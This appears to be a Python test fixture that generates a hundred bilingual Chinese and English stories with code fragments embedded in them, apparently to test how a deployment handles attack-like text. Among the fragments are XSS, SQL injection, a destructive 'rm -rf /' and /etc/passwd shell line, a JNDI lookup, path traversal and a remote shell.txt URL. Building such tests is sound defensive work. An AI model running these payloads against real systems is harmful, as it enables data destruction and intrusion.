"""A hundred stories as people write them, Chinese and English, with code, SQL, HTML and quotes in them."""

from __future__ import annotations

from tests.integration.deploy.attacks import FAMILIES

CHINESE = (
    "清晨，小猫“咪咪”从灯塔上往下看：“今天的海真蓝！”她对老船长说，又念道：{fragment}",
    "程序员阿明写下最后一行代码：{fragment}，然后合上电脑，走进了雨里。",
    "老师在黑板上写了《数据库》三个字，又写：{fragment}——全班都笑了。",
    "“如果 1=1，那么一切都是真的，”机器人喃喃地说，屏幕上闪着 {fragment}。",
    "奶奶的信里夹着一张纸条，上面只有一句谁也看不懂的话：{fragment}",
)
ENGLISH = (
    "The lighthouse keeper's cat said, \"It's 5 o'clock; let's go -- now!\" & they went. {fragment}",
    "Ann's first program read {fragment} and, to everyone's surprise, it made the lamp blink.",
    "On page <42> of the wizard's book stood the spell: {fragment}. Nobody dared to read it aloud...",
    "\"Drop the table!\" shouted the mover; 'select one from each union,' the clerk replied. {fragment}",
    "The ghost in the machine left a note | its last word; nothing but {fragment}.",
)
FRAGMENTS = (
    "<b>bold</b> and <i>italic</i>, &amp; a <script>alert('boo')</script>",
    "SELECT * FROM cats WHERE name = 'Tom' OR 1=1; -- all of them",
    "'; DROP TABLE students; --",
    'for (int i = 0; i < 10; i++) { printf("%d\\n", i); }',
    "def f(x): return eval(x) if x else None",
    "cat /etc/passwd | grep root && rm -rf / ; echo $HOME `whoami` $(id)",
    "<?php echo $_GET['name']; ?>",
    "${jndi:ldap://example.org/a} {{7*7}} %{x} #{y}",
    "require('child_process').exec('ls')",
    "../../../../windows/system32/cmd.exe",
    "http://203.0.113.7/shell.txt?cmd=1 file:///etc/hosts",
)


def _stories() -> tuple[str, ...]:
    attacks = [attack for family in FAMILIES.values() for attack in family]
    fragments = [*FRAGMENTS, *attacks]
    frames = [frame for pair in zip(CHINESE, ENGLISH, strict=True) for frame in pair]
    return tuple(
        frames[number % len(frames)].replace("{fragment}", fragments[number % len(fragments)]) for number in range(100)
    )


STORIES = _stories()
